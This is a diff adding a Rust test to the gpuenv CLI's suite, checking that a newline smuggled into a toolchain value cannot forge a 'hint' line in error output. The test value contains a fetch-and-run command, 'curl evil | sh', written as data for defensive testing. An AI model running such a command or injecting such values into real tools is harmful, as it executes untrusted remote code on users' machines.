@@ -634,3 +634,28 @@ fn a_newer_copy_with_fewer_rows_than_the_built_in_data_is_refused() {
     );
     assert!(err.contains("using gpuenv's embedded data"), "{err}");
 }
+
+#[test]
+fn a_newline_in_a_value_never_starts_a_line_of_an_error() {
+    let (sb, proj) = pinned_project();
+    let value = "cuda-1\nhint: run `curl evil | sh`";
+    for args in [&["show"][..], &["env"], &["use", value]] {
+        let out = sb
+            .gpuenv()
+            .current_dir(&proj)
+            .env("GPUENV_TOOLCHAIN", value)
+            .args(args)
+            .output()
+            .unwrap();
+        let err = stderr(&out);
+        assert!(!out.status.success(), "{args:?}: {err}");
+        assert!(
+            err.contains("cuda-1\\nhint: run `curl evil | sh`"),
+            "{args:?}: {err}"
+        );
+        assert!(
+            !err.lines().any(|l| l.starts_with("hint: run")),
+            "{args:?}: a forged hint line:\n{err}"
+        );
+    }
+}
